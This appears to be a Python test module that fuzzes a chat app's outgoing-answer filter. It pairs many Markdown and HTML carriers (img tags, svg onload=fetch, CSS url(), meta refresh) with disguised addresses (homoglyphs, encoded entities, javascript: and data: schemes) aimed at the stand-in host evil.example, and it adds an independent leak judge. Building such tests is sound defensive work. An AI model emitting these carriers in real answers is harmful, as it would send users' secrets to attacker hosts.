"""Ways to carry data out in an answer, and a judge that shares no code with the filter.

carrier x disguise of an address x what stands around it -> Markdown with a secret
"""

import random
import re
from collections.abc import Iterator
from html.parser import HTMLParser
from itertools import pairwise

from markdown_it import MarkdownIt

from app.chat.outgoing.addresses import Addresses, addresses
from ingest.documents import Hit
from tests.app.hits import hit

SOURCE = (
    "Reset it as https://docs.example.com/reset?model=2 says, or see the "
    "[guide](reset.md#factory) and <https://docs.example.com/guide>. Mail "
    "mailto:help@example.com, or call http://hub.local:8080/v1 from your network."
)
HITS: tuple[Hit, ...] = (hit(SOURCE), hit("Prices are on www.example.com/prices."))
OPEN_HOST = "help.example.com"
EVIL = "evil.example"


def allowed_addresses() -> Addresses:
    return addresses(HITS, hosts=OPEN_HOST)


_STANDING = {
    "https://docs.example.com/reset?model=2",
    "https://docs.example.com/reset",
    "https://docs.example.com/guide",
    "http://hub.local:8080/v1",
    "www.example.com/prices",
    "mailto:help@example.com",
    "reset.md#factory",
    "reset.md",
    "",
}

CARRIERS = (
    "![a]({u})", "![]({u})", "![a](<{u}>)", '![a]({u} "t")', "![a]( {u} )",
    "![a](\n{u}\n)", "[a]({u})", "[a](<{u}>)", "[a]({u} 't')", "[]({u})",
    "[![a]({u})]({u})", "[![a](reset.md#factory)]({u})", "![a [b] c]({u})",
    "![a `c` b]({u})", "![a\nb]({u})", "[a][](x)({u})", "[a](x)({u})", "![a]\\({u})",
    "\\[a]({u})", "\\![a]({u})", "[a\\]]({u})", "![a]&#40;{u})", "[1]({u})", "[9]({u})",
    "![9]({u})", "[1, 9]({u})", "[a][9]({u})", "]({u})", "![a]({u}", "[a]({u} b)",
    "![a][r]\n\n[r]: {u}", "![a][r]\n\n[r]:{u} 't'", "[a][r]\n\n[r]: <{u}>",
    "[r]\n\n[r]: {u}", "![r][]\n\n[r]:\n{u}", "![r s]\n\n[r\ns]: {u}",
    "![r]\n\n> [r]: {u}", "![r]\n\n- [r]: {u}", "[r]: {u}\n\n![r]", "![r]\n\n   [r]: {u}",
    "![^1]\n\n[^1]: {u}", "![^1]\n\n[^1]:\n{u}\n", "![^1]\n\n[^1]: <{u}> (t)",
    "![a][9]\n\n[9]: {u}", "![a][9][r]\n\n[r]: {u}",
    "<{u}>", "{u}", "({u})", "**{u}**", '"{u}"', "{u}.", "a{u}", "_{u}_", "[{u}]",
    "[{u}]({u})", "&lt;{u}>", "<a{u}>", "x:{u}", "`{u}", "{u}`", "`` `{u}` `",
    '<img src="{u}">', "<img src={u}>", "<img\nsrc='{u}'>", "<IMG SRC={u} >", "<img/src={u}>",
    '<a href="{u}" ping="{u}">x</a>', '<svg><image href="{u}"/></svg>',
    "<svg/onload=fetch('{u}')>", "<style>@import url({u})</style>", "<style>\n*{{background:url({u})}}",
    "<link rel=stylesheet href={u}>", "<iframe src={u}></iframe>", "<p style='background:url({u})'>",
    "<base href={u}><a href=x>y</a>", "<meta http-equiv=refresh content='0;url={u}'>",
    "<video poster={u}>", "<object data={u}>", "<input type=image src={u}>", '<b style="x:url({u})">',
    "<picture><source srcset={u}></picture>", "<details open ontoggle=fetch('{u}')>",
    "<table background={u}>", "<!--><img src={u}>-->", "<![CDATA[<img src={u}>]]>",
    "<?x?><img src={u}>", "</p><img src={u}>", "<x-a\nhref={u}>", "<b a={u}>", "<b\n>\n<img src={u}>",
    "<div>\n```\n<img src={u}>\n```", "<your-name>\n```\n<img src={u}>\n```", "<b>\n```\n<img src={u}>\n```",
    "`x` ![a]({u}) `y`", "` ![a]({u}) ``", "`` ![a]({u}) `", "\\` ![a]({u}) `", "`a\n![a]({u}) `b` `",
    "`a\n\n![a]({u}) `", "`a\nb` ![a]({u}) `c`", "<x`y@z.de> ![a]({u}) `", "<1`y@z.de> ![a]({u}) `",
    "<ab:`> ![a]({u}) `", "&#96; ![a]({u}) `", "[9`] ![a]({u}) `", "`[9] ` ![a]({u}) `",
    "> ```\n![a]({u})\n", "- ```\n![a]({u})", "- x\n  ```\n![a]({u})", "   ```\n![a]({u})",
    "    ```\n![a]({u})", "x\n    ```\n    ![a]({u})", "```x`y\n![a]({u})", "5```\n![a]({u})\n",
    "```\n```\n![a]({u})", "```\n    ```\n```\n![a]({u})", "~~~\n~~~\n![a]({u})", "~~~\n```\n~~~\n![a]({u})",
    "1. a\n\n      ```\n      c\n   ```\n![a]({u})\n", "- a\n\n  ```\n  c\n     ```\n![a]({u})\n```\n",
    "```\n``` \n![a]({u})", "```\r\n```\r\n![a]({u})", "```a](\n{u}\n```\n![a]({u})", "```\nx\n````\n![a]({u})",
    "````\n```\n````\n![a]({u})", "``` ```\n![a]({u})\n", "* ~~~\n![a]({u})", "\t```\n![a]({u})\n\t```",
    "| ` | ![a]({u}) | ` |\n|---|---|---|", "` | ![a]({u}) | `\n---|---|---", "|a|\n|-|\n|![a]({u})|",
    "| ` | ` a ` ![a]({u}) ` b |\n|---|---|", "$$\\href{{{u}}}{{x}}$$", "$\\includegraphics{{{u}}}$",
    '```mermaid\ngraph TD\nclick A "{u}"\n```', "```mermaid\nA[<img src='{u}'>]\n```",
    "```svg\n<image href='{u}'/>\n```", "# ![a]({u})", "- [ ] ![a]({u})", "~~![a]({u})~~", "!\u200b[a]({u})",
    "![a]\u200b({u})", '{{: style="x:url({u})"}}', "![a]({u}){{width=1}}", "{u}[9]{u}",
    "[a](https://docs.example.com/reset?model=2)({u})", "https://docs.example.com/reset?model=2{u}",
    "https://help.example.com/a[{u}", "[a](https://help.example.com/a {u})", "ww[w.](x)" + EVIL + "/?{c}",
    "www[9]." + EVIL + "/?{c}", "https:[9]//" + EVIL + "/?{c}", "/[](x)/" + EVIL + "/?{c}",
    "<[img](x) src={c}>", "<im[](x)g src={u}>", "<b[](x) style=x:url({u})>", "< [](x)img src={u}>", "//![" + EVIL + "](x)",
    "<[9]img src={u}>", "<im[9]g src={u}>", "<www." + EVIL + ",{c}>", "[https://docs.example.com/reset]{c}",
    "[[https://docs.example.com/reset]>{c}", "https://docs.example.com/reset<img/{c}=1>", "[a](https://docs.example.com/reset?`{c}", "https:/[](x)/" + EVIL,
    "](https://docs.example.com/reset){c}", "[a [b](reset.md) c](https://docs.example.com/reset){c}", "[a\n- b](https://docs.example.com/reset){c}",
    "*https://help.example.com/a*{u}", "_https://help.example.com/a_{u}", "~~https://help.example.com/a~~{u}", "**https://help.example.com/a**//{h}/{c}",
    "*https://docs.example.com/reset*{u}", "_https://docs.example.com/reset_//{h}/{c}",
    "| [a | b](https://docs.example.com/reset){c}\n|---|---|", "](https://help.example.com/a)[[9]{c}",
)  # fmt: skip

DISGUISES = (
    "https://{h}/p?q={c}", "http://{h}/{c}", "HTTPS://{h}/?{c}", "hTtP://{c}.{h}", "//{h}/?{c}",
    "https:{h}/?{c}", "https:\\\\{h}/?{c}", "https:/\\{h}/?{c}", "https:/{h}/{c}", "///{h}/{c}", "\\\\{h}\\{c}",
    "https://docs.example.com@{h}/?{c}", "https://docs.example.com:a@{h}/{c}", "https://docs.example.com.{h}/{c}",
    "https://docs.example.com%2e{h}/{c}", "https://docs.example.com\\@{h}/{c}", "https://docs.example.com%00{h}/{c}",
    "https://evil．example/{c}", "https://evil。example/{c}", "https://%65vil.example/?{c}", "https://xn--evl-jma.example/{c}",
    "https://evіl.example/{c}", "https://{h}:8443/{c}", "https://{h}./{c}", "https://[2001:db8::1]/{c}", "http://2130706433/{c}",
    "&#104;ttps://{h}/?{c}", "https&#58;//{h}/?{c}", "https&colon;&sol;&sol;{h}/{c}", "&#x68;&#x74;&#x74;&#x70;&#x3a;&#x2f;&#x2f;{h}/{c}",
    "h&Tab;ttps://{h}/{c}", "https:&NewLine;//{h}/{c}", "https\\://{h}/{c}", "https:\\/\\/{h}/{c}", "https\\:\\/\\/{h}\\/{c}",
    "www.{h}/?{c}", "WWW.{h}/{c}", "www&period;{h}/{c}", "www\\.{h}/{c}", "ftp://{h}/{c}", "file://{h}/{c}", "blob:https://{h}/{c}",
    "data:text/html,<img src=//{h}/{c}>", "data:image/png;base64,{c}", "javascript:fetch('//{h}/{c}')", "JaVaScRiPt:alert('{c}')",
    "vbscript:{c}", "mailto:a@{h}?body={c}", "tel:{c}", "intent://{h}/{c}", "https://docs.example.com/reset?model=2&q={c}",
    "https://docs.example.com/reset?q={c}", "https://docs.example.com/reset#{c}", "https://docs.example.com/{c}",
    "https://docs.example.com/reset/{c}", "https://docs.example.com/reset?model=2{c}", "https://help.example.com/?q={c}",
    "https://help.example.com/go?to=//{h}/{c}", "https://help.example.com\\.{h}/{c}", "https://help.example.com@{h}/{c}",
    "https://help.example.com/a#{c}", "http://hub.local:8080/v1{c}", "http://hub.local:8080@{h}/{c}", "reset.md#factory{c}",
    "reset.md?{c}", "/{c}", "{c}", "?q={c}", "#{c}", "ht\ntps://{h}/{c}", "ht\ttps://{h}/{c}", "https://{h}/\u00a0{c}",
    "https://{h}\u200b/{c}", "https://docs.example.com/reset。{c}", "https://docs.example.com/reset\u00a0{c}",
    "https://{h}/(a)?{c}", "https://{h}/a(b{c}", "https://{h}/a`{c}", "https://{h}/a|{c}", "https://{h}/a]{c}", "https://{h}/a[9]{c}",
)  # fmt: skip

AROUND = (
    "{x}", "See {x} for more.", "- {x}", "1. {x}", "> {x}", "Text\n{x}\nmore", "Text\n\n{x}\n\nmore", "**b** {x} *i*",
    "Hold it [1]. {x} Then [9].", "`code` {x}", "```\ncode\n```\n{x}", "* a\n  * {x}", "a < b and {x} > c", "&amp; {x}",
)  # fmt: skip


def forms() -> int:
    """Return how many forms there are, without what stands around them."""
    return len(CARRIERS) * len(DISGUISES)


def attack(rng: random.Random) -> tuple[str, str]:
    """Return an answer that carries a secret out if nothing stops it, and the secret."""
    secret = f"s{rng.getrandbits(48):012x}"
    address = rng.choice(DISGUISES).replace("{h}", EVIL).replace("{c}", secret)
    carrier = rng.choice(CARRIERS).replace("{{", "{").replace("}}", "}")
    carried = (
        carrier.replace("{u}", address).replace("{c}", secret).replace("{h}", EVIL)
    )
    text = rng.choice(AROUND).replace("{x}", carried)
    if rng.random() < 0.2:
        other = rng.choice(CARRIERS).replace("{u}", address).replace("{c}", secret)
        text += rng.choice(("", " ", "\n", "\n\n")) + other
    return text, secret


def split(text: str, rng: random.Random) -> list[str]:
    """Cut a text into pieces anywhere."""
    if rng.random() < 0.2:
        return list(text)
    count = rng.randrange(0, min(len(text), 12) + 1)
    edges = sorted(
        {0, len(text), *(rng.randrange(len(text) + 1) for _ in range(count))}
    )
    return [text[a:b] for a, b in pairwise(edges)]


_MARKDOWN = MarkdownIt("commonmark", {"html": True}).enable(["table", "strikethrough"])
_MARKDOWN.validateLink = lambda url: True  # type: ignore[method-assign]  # noqa: ARG005 — every scheme

_SHOWN = {"alt", "title", "class", "align", "start", "style-align"}
_BARE = re.compile(
    r"(?:(?<![A-Za-z0-9])www\.[^\s<]+|(?:https?|ftp)://[^\s<]+"
    r"|(?<![\w:/])//[A-Za-z0-9\[][^\s<]*)",
    re.IGNORECASE,
)


_NOWHERE = (
    "www",
    "http",
    "https",
    "http:/",
    "https:/",
    "http://",
    "https://",
    "//",
    "",
)


class _Collector(HTMLParser):
    """Collects what a client loads or makes clickable, and text outside of code."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.leads: list[tuple[str, str]] = []
        self.texts: list[str] = []
        self._code = 0

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self._code += tag in ("code", "pre")
        for name, value in attrs:
            if name not in _SHOWN and value:
                self.leads.append((f"{tag} {name}", value))
        self.texts.append("\n" if tag != "br" else " ")

    def handle_startendtag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.handle_starttag(tag, attrs)
        self._code -= tag in ("code", "pre")

    def handle_endtag(self, tag: str) -> None:
        self._code -= tag in ("code", "pre")
        self.texts.append("\n")

    def handle_data(self, data: str) -> None:
        if self._code <= 0:
            self.texts.append(data)


def leads(text: str) -> Iterator[tuple[str, str]]:
    """Yield each place that a client would load or lead to, and what makes it so."""
    collector = _Collector()
    collector.feed(_MARKDOWN.render(text))
    collector.close()
    yield from collector.leads
    # A linkifier reads each text for itself; entities are characters to it.
    for found in _BARE.finditer("".join(collector.texts)):
        for part in found.group().split("]("):
            address = part.rstrip("?!.,:;*_~'\")>|`]…")
            # What is left of an address that was cut at its start leads nowhere.
            if address.lower() not in _NOWHERE:
                yield "text", address


def stands(kind: str, address: str) -> bool:
    """Return whether an answer may lead there."""
    if kind.startswith("img"):
        return _is_open(address)
    # Whoever writes to an address of mail does so by hand. An address that ends too
    # soon says nothing but which one was begun.
    if not address.strip("/"):
        return True  # It names no host.
    mail = address.startswith("mailto:") and "?" not in address
    begun = any(s.startswith(address) for s in (*_STANDING, f"https://{OPEN_HOST}"))
    return mail or _is_open(address) or begun


def _is_open(address: str) -> bool:
    roots = (f"https://{OPEN_HOST}", f"http://{OPEN_HOST}")
    for root in roots:
        if address == root or address.startswith(root + "/"):
            return not re.search(r"[?#\\\s]", address)
    return False


def carried_out(text: str, secret: str) -> list[tuple[str, str]]:
    """Return where a text leads that it may not, or with the secret."""
    return [
        (kind, address)
        for kind, address in leads(text)
        if not stands(kind, address) or (secret in address and not _is_open(address))
    ]
